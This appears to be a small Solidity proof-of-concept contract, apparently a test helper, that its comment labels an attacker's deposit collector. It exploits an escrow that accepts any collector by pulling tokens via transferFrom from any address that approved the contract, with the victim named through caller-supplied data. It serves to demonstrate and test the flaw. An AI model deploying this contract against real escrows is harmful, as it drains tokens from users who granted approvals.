// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IERC20From {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

// An attacker's deposit collector: the escrow accepts any collector, so a channel can be funded by whoever
// approved this contract while naming anyone as its payer. `data` names the funder.
contract GiftDepositCollector {
    function collect(address, address token, uint256 amount, bytes32, bytes calldata data) external {
        address funder = abi.decode(data, (address));
        require(IERC20From(token).transferFrom(funder, msg.sender, amount), "transfer failed");
    }
}
